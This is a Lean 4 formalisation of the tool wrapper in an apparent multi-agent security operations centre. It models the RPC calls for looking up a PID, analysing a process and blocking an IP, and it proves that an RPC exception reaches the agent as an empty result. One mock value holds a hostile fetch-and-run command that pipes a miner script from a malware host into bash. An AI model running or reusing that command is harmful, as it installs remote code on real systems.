import Aegis.Soc.PyValue

/-! The tools the agents call, `multi_agent_soc.py`: an RPC to the probe over HTTP, the
wrapper that looks at the reply, and the three functions that hand a part of it to the
agent. What `requests.post` gives for a request is a parameter. -/
namespace Aegis.Soc

/-- `v.get(key, {})`; only a dict has it. -/
def getOrEmpty (key : Text) : Json Text → Option (Json Text)
  | .obj fields => some (((Json.obj fields).field key).getD (.obj []))
  | _ => none

/-- How `requests.post` ends: an exception, or a status and what `response.json()` gives. -/
inductive Post where
  | raises (e : Text)
  | responds (statusCode : ℕ) (json : Except Text (Json Text))

def errorValue (e : Text) : Json Text := .obj [("error".toList, .str e)]

/-- What `call_tool` makes of a reply. There is no value when an exception leaves it. -/
def checkReply (msg : Json Text) : Option (Json Text) := do
  if ← holdsKey "result".toList msg then return msg
  else if ← holdsKey "error".toList msg then
    match msg with
    | .obj _ => return msg
    | _ => none -- `msg['error']` needs a dict
  else return .obj [("result".toList, .str "No response".toList)]

section Calls
variable (mock : Bool) (post : Json Text → Post) (reqId : ℤ)

/-- `_call_rpc_sync`. -/
def callRpcSync (method : Text) (params : Json Text) : Json Text :=
  if mock then .obj []
  else
    match post (rpcRequest reqId method params) with
    | .raises e => errorValue e
    | .responds statusCode json =>
      if statusCode = 200 then
        match json with
        | .ok reply => reply
        | .error e => errorValue e
      else errorValue ("HTTP ".toList ++ Nat.toDigits 10 statusCode)

def mockResult (name : Text) : Json Text :=
  if name = "get_pid_by_connection".toList then .obj [("pid".toList, .int 8901)]
  else if name = "analyze_process_behavior".toList then
    .obj [("cmdline".toList, .str "wget http://malware.cn/miner.sh -O -> bash".toList),
      ("cwd".toList, .str "/tmp".toList)]
  else if name = "block_malicious_ip".toList then
    .obj [("status".toList, .str "success".toList), ("action".toList, .str "eBPF 硬件拦截生效".toList)]
  else .obj []

def callTool (name : Text) (arguments : Json Text) : Option (Json Text) :=
  if mock then some (.obj [("result".toList, mockResult name)])
  else checkReply (callRpcSync mock post reqId "tools/call".toList
    (.obj [("name".toList, .str name), ("arguments".toList, arguments)]))

/-- What every tool does: call, and hand on the result. -/
def toolResult (name : Text) (arguments : Json Text) : Option (Json Text) := do
  let res ← callTool mock post reqId name arguments
  getOrEmpty "result".toList res

def getPidByConnection (ip : Text) (port : ℤ) : Option (Json Text) :=
  toolResult mock post reqId "get_pid_by_connection".toList
    (.obj [("ip".toList, .str ip), ("port".toList, .int port)])

def analyzeProcessBehavior (pid : ℤ) : Option (Json Text) :=
  toolResult mock post reqId "analyze_process_behavior".toList (.obj [("pid".toList, .int pid)])

def blockMaliciousIp (ip : Text) : Option (Json Text) :=
  toolResult mock post reqId "block_malicious_ip".toList (.obj [("ip".toList, .str ip)])

end Calls

/-! What the agent gets to see of a failure. -/

/-- The member of the reply, if a reply with status 200 arrived that is an object. -/
def Post.member (key : Text) : Post → Option (Json Text)
  | .responds statusCode (.ok reply) => if statusCode = 200 then reply.field key else none
  | _ => none

def ReportsSuccess (result : Json Text) : Prop :=
  result.field "status".toList = some (.str "success".toList)

/-- The call went through and the tool reported success. -/
def Post.Succeeded (p : Post) : Prop :=
  p.member "error".toList = none ∧
    ∃ result, p.member "result".toList = some result ∧ ReportsSuccess result

/-- The value contains an error or a status of failed. -/
def ShowsFailure (v : Json Text) : Prop :=
  (v.field "error".toList).isSome ∨ v.field "status".toList = some (.str "failed".toList)

/-- A failure is handed to the agent as one. -/
def FailureReported (p : Post) (returned : Option (Json Text)) : Prop :=
  ¬ p.Succeeded → ∃ v, returned = some v ∧ ShowsFailure v

theorem not_showsFailure_empty : ¬ ShowsFailure (.obj []) := by
  intro h
  rcases h with h | h <;> cases h

theorem not_showsFailure_str (s : Text) : ¬ ShowsFailure (.str s) := by
  intro h
  rcases h with h | h <;> cases h

theorem checkReply_result {msg result : Json Text} (h : msg.field "result".toList = some result) :
    (checkReply msg).bind (getOrEmpty "result".toList) = some result := by
  cases msg with
  | obj fields =>
    have htruthy : truthy (.obj fields) = true := by
      cases fields with
      | nil => cases h
      | cons e fields => rfl
    have hin : holdsKey "result".toList (.obj fields) = some true := by
      rw [holdsKey, if_pos htruthy, inValue, h]
      rfl
    unfold checkReply
    rw [hin]
    show getOrEmpty "result".toList (.obj fields) = some result
    rw [getOrEmpty, h]
    rfl
  | _ => cases h

theorem checkReply_cases {msg res : Json Text} (h : checkReply msg = some res) :
    res = msg ∨ res = .obj [("result".toList, .str "No response".toList)] := by
  unfold checkReply at h
  obtain ⟨hasResult, -, h⟩ := Option.bind_eq_some_iff.mp h
  cases hasResult with
  | true => exact Or.inl (Option.some.inj h).symm
  | false =>
    obtain ⟨hasError, -, h⟩ := Option.bind_eq_some_iff.mp h
    cases hasError with
    | false => exact Or.inr (Option.some.inj h).symm
    | true =>
      cases msg with
      | obj fields => exact Or.inl (Option.some.inj h).symm
      | _ => cases h

/-- Without a result there is an empty dictionary, a text or an exception. -/
theorem checkReply_no_result {msg v : Json Text} (h : msg.field "result".toList = none)
    (hv : (checkReply msg).bind (getOrEmpty "result".toList) = some v) : ¬ ShowsFailure v := by
  obtain ⟨res, hres, hget⟩ := Option.bind_eq_some_iff.mp hv
  rcases checkReply_cases hres with hsame | hno
  · rw [hsame] at hget
    cases msg with
    | obj fields =>
      rw [getOrEmpty, h, Option.some.injEq] at hget
      rw [← hget]
      exact not_showsFailure_empty
    | _ => cases hget
  · have hvalue : getOrEmpty "result".toList res = some (.str "No response".toList) := by
      rw [hno]
      rfl
    rw [hvalue, Option.some.injEq] at hget
    rw [← hget]
    exact not_showsFailure_str _

section Wrapper
variable (post : Json Text → Post) (reqId : ℤ)

/-- The reply of the probe to a call of a tool. -/
def replyTo (name : Text) (arguments : Json Text) : Post :=
  post (rpcRequest reqId "tools/call".toList
    (.obj [("name".toList, .str name), ("arguments".toList, arguments)]))

theorem field_callRpcSync (method : Text) (params : Json Text) :
    (callRpcSync false post reqId method params).field "result".toList =
      (post (rpcRequest reqId method params)).member "result".toList := by
  have herror : ∀ e, (errorValue e).field "result".toList = none := fun e => rfl
  unfold callRpcSync
  rw [if_neg Bool.false_ne_true]
  cases post (rpcRequest reqId method params) with
  | raises e => exact herror e
  | responds statusCode json =>
    dsimp only
    cases json with
    | error e =>
      split_ifs
      · exact herror e
      · exact herror _
    | ok reply =>
      rw [Post.member]
      split_ifs
      · rfl
      · exact herror _

theorem toolResult_eq (name : Text) (arguments : Json Text) :
    toolResult false post reqId name arguments =
      (checkReply (callRpcSync false post reqId "tools/call".toList
        (.obj [("name".toList, .str name), ("arguments".toList, arguments)]))).bind
          (getOrEmpty "result".toList) := by
  unfold toolResult callTool
  rw [if_neg Bool.false_ne_true]
  rfl

/-- A failure is reported if the reply has a result that reports it, and there is nothing
to report if the result stands alone and reports success. -/
def Post.ShowsOutcome (p : Post) : Prop :=
  ∃ result, p.member "result".toList = some result ∧
    (ShowsFailure result ∨ (p.member "error".toList = none ∧ ReportsSuccess result))

theorem failureReported_iff (name : Text) (arguments : Json Text) :
    FailureReported (replyTo post reqId name arguments)
        (toolResult false post reqId name arguments) ↔
      (replyTo post reqId name arguments).ShowsOutcome := by
  set p := replyTo post reqId name arguments with hp
  have hfield : (callRpcSync false post reqId "tools/call".toList
      (.obj [("name".toList, .str name), ("arguments".toList, arguments)])).field "result".toList =
        p.member "result".toList := field_callRpcSync post reqId _ _
  rw [toolResult_eq]
  cases hresult : p.member "result".toList with
  | none =>
    rw [hresult] at hfield
    constructor
    · intro h
      have hfailed : ¬ p.Succeeded := by
        intro hs
        obtain ⟨-, result, hsome, -⟩ := hs
        rw [hresult] at hsome
        cases hsome
      obtain ⟨v, hv, hshows⟩ := h hfailed
      exact absurd hshows (checkReply_no_result hfield hv)
    · intro h
      obtain ⟨result, hsome, -⟩ := h
      rw [hresult] at hsome
      cases hsome
  | some result =>
    rw [hresult] at hfield
    rw [checkReply_result hfield]
    constructor
    · intro h
      by_cases hs : p.Succeeded
      · obtain ⟨herror, result', hsome, hreports⟩ := hs
        exact ⟨result', hsome, Or.inr ⟨herror, hreports⟩⟩
      · obtain ⟨v, hv, hshows⟩ := h hs
        rw [← Option.some.inj hv] at hshows
        exact ⟨result, hresult, Or.inl hshows⟩
    · intro h hfailed
      obtain ⟨result', hsome, hcase⟩ := h
      rw [hresult] at hsome
      have heq : result = result' := Option.some.inj hsome
      refine ⟨result, rfl, ?_⟩
      rcases hcase with hshows | ⟨herror, hreports⟩
      · rw [heq]
        exact hshows
      · rw [← heq] at hreports
        exact absurd ⟨herror, result, hresult, hreports⟩ hfailed

end Wrapper

/-- A call of one of the three tools. -/
inductive ToolCall where
  | getPid (ip : Text) (port : ℤ)
  | analyze (pid : ℤ)
  | block (ip : Text)

namespace ToolCall

def name : ToolCall → Text
  | getPid _ _ => "get_pid_by_connection".toList
  | analyze _ => "analyze_process_behavior".toList
  | block _ => "block_malicious_ip".toList

def arguments : ToolCall → Json Text
  | getPid ip port => .obj [("ip".toList, .str ip), ("port".toList, .int port)]
  | analyze pid => .obj [("pid".toList, .int pid)]
  | block ip => .obj [("ip".toList, .str ip)]

def returned (post : Json Text → Post) (reqId : ℤ) : ToolCall → Option (Json Text)
  | getPid ip port => getPidByConnection false post reqId ip port
  | analyze pid => analyzeProcessBehavior false post reqId pid
  | block ip => blockMaliciousIp false post reqId ip

theorem returned_eq (post : Json Text → Post) (reqId : ℤ) (call : ToolCall) :
    call.returned post reqId = toolResult false post reqId call.name call.arguments := by
  cases call <;> rfl

end ToolCall

/-- For every tool, request and outcome of the RPC: a failure is reported to the agent
exactly if the reply is a 200 whose result shows it. -/
theorem tool_failureReported_iff (post : Json Text → Post) (reqId : ℤ) (call : ToolCall) :
    FailureReported (replyTo post reqId call.name call.arguments) (call.returned post reqId) ↔
      (replyTo post reqId call.name call.arguments).ShowsOutcome := by
  rw [call.returned_eq]
  exact failureReported_iff post reqId call.name call.arguments

/-- An RPC that ends with an exception is an empty dictionary to the agent. -/
theorem exception_swallowed :
    (ToolCall.block "10.0.0.9".toList).returned (fun _ => .raises "timed out".toList) 1 =
        some (.obj []) ∧
      ¬ FailureReported (replyTo (fun _ => .raises "timed out".toList) 1
          (ToolCall.block "10.0.0.9".toList).name (ToolCall.block "10.0.0.9".toList).arguments)
        ((ToolCall.block "10.0.0.9".toList).returned (fun _ => .raises "timed out".toList) 1) := by
  refine ⟨rfl, ?_⟩
  intro h
  have hfailed : ¬ (Post.raises "timed out".toList).Succeeded := by
    intro hs
    cases hs.2.choose_spec.1
  obtain ⟨v, hv, hshows⟩ := h hfailed
  rw [← Option.some.inj hv] at hshows
  exact not_showsFailure_empty hshows

end Aegis.Soc
